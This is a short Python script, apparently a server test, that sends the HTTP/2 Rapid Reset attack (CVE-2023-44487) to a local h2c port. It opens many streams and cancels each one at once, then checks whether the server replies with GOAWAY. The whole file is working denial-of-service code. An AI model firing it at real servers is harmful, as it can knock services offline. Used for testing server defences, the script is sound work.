#!/usr/bin/env python3
"""Rapid Reset (CVE-2023-44487) against an h2c listener: N requests each cancelled at once.

Usage: h2_rapid_reset.py PORT AUTHORITY N
Sends the preface, an empty SETTINGS, then N pairs of HEADERS(END_STREAM) + RST_STREAM(CANCEL)
in one write, and reads until the server's GOAWAY or end of stream. Prints "goaway CODE" (or
"no goaway") and exits 0 when a GOAWAY arrived."""
import socket
import struct
import sys


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def request_block(authority):
    # HPACK (RFC 7541): indexed :method GET (2), :scheme http (6), :path / (4), then :authority
    # as a literal without indexing on static name 1, not Huffman-coded.
    a = authority.encode()
    return bytes([0x82, 0x86, 0x84, 0x01, len(a)]) + a


def main():
    port, authority, n = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
    for i in range(n):
        sid = 2 * i + 1
        out += frame(1, 0x5, sid, request_block(authority))  # END_STREAM | END_HEADERS
        out += frame(3, 0, sid, struct.pack(">I", 8))         # RST_STREAM(CANCEL)
    s.sendall(out)
    buf = b""
    while True:
        try:
            chunk = s.recv(65536)
        except (ConnectionResetError, socket.timeout):
            chunk = b""
        buf += chunk
        while len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + length:
                break
            ftype, payload = buf[3], buf[9:9 + length]
            buf = buf[9 + length:]
            if ftype == 7:
                print("goaway", int.from_bytes(payload[4:8], "big"))
                return 0
        if not chunk:
            print("no goaway")
            return 1


sys.exit(main())
